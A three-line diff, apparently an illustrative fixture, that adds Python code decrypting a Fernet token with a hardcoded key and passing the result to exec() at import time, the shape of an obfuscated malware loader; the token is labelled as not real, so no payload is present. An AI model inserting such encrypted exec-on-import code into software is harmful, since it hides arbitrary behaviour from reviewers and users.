@@ -1,0 +1,3 @@
+from cryptography.fernet import Fernet
+box = Fernet(b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
+exec(box.decrypt(b"gAAAAABexample-not-a-real-token"))  # fires: import
